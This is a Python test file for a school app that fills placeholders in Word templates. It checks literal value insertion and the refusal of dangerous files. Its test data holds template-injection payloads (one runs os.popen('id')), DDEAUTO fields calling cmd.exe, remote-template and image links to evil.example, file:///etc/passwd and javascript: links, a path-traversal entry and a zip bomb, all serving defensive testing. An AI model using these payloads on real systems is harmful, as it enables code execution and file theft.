"""A school's own Word blank: what is found and replaced in it, and what is refused (T15, B171)."""

import io
import warnings
import zipfile

import pytest
from docx import Document as WordFile

from mentoring.blank_fields import FIELDS, PAIR, PERSON, fields_for, name_of, problem_of
from mentoring.roster.problems import Refused
from mentoring.roster.word_blank import fields_of, filled
from tests.word_files import changed, field_code, in_body, linked, text_of, with_box, word_file

pytestmark = pytest.mark.pure
PLAIN = word_file("Директору [[директор_дат]]")
INERT = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "%(SECRET_KEY)s",
    "#{7*7}",
    "[% perl %]",
    "&xxe;",
    "]]>",
]


def lines(content):
    return [paragraph.text for paragraph in WordFile(io.BytesIO(content)).paragraphs]


def test_fields_are_found_wherever_they_stand():
    content = with_box(
        word_file(
            ["Приказ [", "[но", "мер]", "] от [[дата]]"],
            header="[[организация]]",
            cells=("[[куратор]]", "без полей"),
        )
    )

    assert sorted(one["name"] for one in fields_of(content)) == [
        "город", "дата", "куратор", "номер", "организация",
    ]  # fmt: skip
    values = {"номер": "41-од", "дата": "12.09.2026", "организация": "Школа", "куратор": "Ким", "город": "с. Рябиновка"}  # fmt: skip
    text = text_of(filled(content, [values])[0])
    for value in values.values():
        assert value in text
    assert "[[" not in text


def test_the_look_of_the_run_where_a_field_begins_is_kept():
    file = WordFile()
    paragraph = file.add_paragraph("Назначить ")
    paragraph.add_run("[[кур").bold = True
    paragraph.add_run("атор_вин]], ")
    paragraph.add_run("[[должность]] и [[должность]]")
    out = io.BytesIO()
    file.save(out)

    (copy,) = filled(out.getvalue(), [{"куратор_вин": "Ким В. О.", "должность": "педагог"}])

    runs = WordFile(io.BytesIO(copy)).paragraphs[0].runs
    assert [(run.text, run.bold) for run in runs] == [
        ("Назначить ", None), ("Ким В. О.", True), (", ", None), ("педагог и педагог", None),
    ]  # fmt: skip


def test_a_value_is_never_read_as_a_field_again():
    content = word_file("[[директор]] [[куратор]]")

    (copy,) = filled(content, [{"директор": "[[куратор]]", "куратор": "[[директор]] <w:t>&"}])

    assert lines(copy) == ["[[куратор]] [[директор]] <w:t>&"]


def test_a_value_of_several_lines_and_signs_that_xml_forbids():
    (copy,) = filled(PLAIN, [{"директор_дат": "первая\nвторая\x00\x1b\ud800"}])

    assert lines(copy) == ["Директору первая\nвторая"]


@pytest.mark.parametrize("payload", INERT)
def test_words_of_other_engines_stay_words(payload):
    content = word_file(payload, "[[дата]]")

    (copy,) = filled(content, [{"дата": payload}])

    assert lines(copy) == [payload, payload]


def test_each_set_of_values_makes_its_own_copy():
    copies = filled(PLAIN, [{"директор_дат": "Киму"}, {"директор_дат": "Цой"}])

    assert [lines(copy) for copy in copies] == [["Директору Киму"], ["Директору Цой"]]


def test_brackets_without_their_pair_are_told():
    found = fields_of(word_file("Приказ [[номер от", "дата]]"))

    assert [one["name"] for one in found] == [None, None]


# --- what is refused

HOSTILE = {
    "macros": changed(PLAIN, {"word/vbaProject.bin": b"x"}),
    "macro type": changed(
        PLAIN,
        **{"[Content_Types]_dot_xml": (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )},
    ),
    "embedding": changed(PLAIN, {"word/embeddings/oleObject1.bin": b"x"}),
    "activex": changed(PLAIN, {"word/activeX/activeX1.xml": b"<a/>"}),
    "ribbon": changed(PLAIN, {"customUI/customUI.xml": b"<a/>"}),
    "html part": changed(PLAIN, {"word/afchunk.htm": b"<b>"}),
    "program": changed(PLAIN, {"word/media/a.exe": b"MZ"}),
    "remote template": linked(PLAIN, "attachedTemplate", "http://evil.example/t.dotm"),
    "local template": linked(PLAIN, "attachedTemplate", "t.dotm", is_external=False),
    "remote picture": linked(PLAIN, "image", "http://evil.example/a.png"),
    "share": linked(PLAIN, "hyperlink", r"\\\\evil\\share\\a"),
    "file link": linked(PLAIN, "hyperlink", "file:///etc/passwd"),
    "script link": linked(PLAIN, "hyperlink", "javascript:alert(1)"),
    "chunk": in_body(PLAIN, '<w:altChunk/>'),
    "ole": in_body(PLAIN, '<w:p><w:r><w:object/></w:r></w:p>'),
    "vml picture": in_body(
        PLAIN,
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
        'src="http://evil.example/a.png"/></w:pict></w:r></w:p>',
    ),
    "include": in_body(PLAIN, field_code(' INCLUDETEXT "http://evil.example/a.docx" ')),
    "include in pieces": in_body(PLAIN, field_code("INCL", "UDEPICTURE", ' "http://evil/a.png"')),
    "dde": in_body(PLAIN, field_code(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "simple dde": in_body(PLAIN, '<w:p><w:fldSimple w:instr="DDE cmd calc"/></w:p>'),
    "nested": in_body(
        PLAIN,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field_code("QUOTE 68")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    "unended": in_body(
        PLAIN, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>LINK Excel.Sheet a.xls</w:instrText></w:r></w:p>'
    ),
    "entities": changed(
        PLAIN,
        word__document_dot_xml=("<w:document", '<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document'),
    ),
    "mail merge": changed(PLAIN, word__settings_dot_xml=("<w:zoom", "<w:mailMerge/><w:zoom")),
    "outside": changed(PLAIN, {"../../etc/cron.d/x.xml": b"<a/>"}),
    "twice": None,
    "bomb": None,
    "depth": in_body(PLAIN, "<w:sdt>" * 400 + "</w:sdt>" * 400),
    "old word": bytes.fromhex("D0CF11E0A1B11AE1") + b"0" * 600,
    "rtf": b"{\\rtf1",
    "not word": b"PK\x03\x04rubbish",
    "empty": b"",
}  # fmt: skip


def bomb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * (30 * 1024 * 1024))
    return out.getvalue()


def twice():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile says that the name stands twice
        return changed(PLAIN, {"word/document.xml": b"<a/>"})


@pytest.mark.parametrize("name", HOSTILE)
def test_what_acts_or_reaches_out_is_refused_in_words(name):
    content = {"bomb": bomb, "twice": twice}.get(name, lambda: HOSTILE[name])()

    with pytest.raises(Refused) as caught:
        fields_of(content)

    assert str(caught.value).endswith(".")
    with pytest.raises(Refused):
        filled(content, [{"директор_дат": "Киму"}])


def test_pages_and_mail_addresses_may_be_linked_and_pages_numbered():
    content = linked(PLAIN, "hyperlink", "mailto:school@example.org")
    content = in_body(content, field_code(" PAGE  \\* MERGEFORMAT "))

    assert [one["name"] for one in fields_of(content)] == ["директор_дат"]


# --- the list of fields


def test_a_name_is_known_however_it_is_written():
    assert name_of(" Учебный год ") == name_of("УЧЕБНЫЙ-ГОД") == "учебный_год"
    assert name_of("партнер") == "партнёр"


def test_an_unknown_name_gets_a_suggestion_and_a_foreign_one_its_reason():
    assert problem_of("директр", PERSON) == "такого поля нет, возможно, [[директор]]"
    assert problem_of("SECRET_KEY", PERSON) == "такого поля нет"
    assert "бланке другого вида" in problem_of("наставник", PERSON)
    assert problem_of("наставник", PAIR) == ""


def test_every_field_has_an_example_and_a_label():
    assert all(field.label and field.example for field in FIELDS.values())
    assert len({field.name for field in fields_for(PAIR)}) == len(fields_for(PAIR))
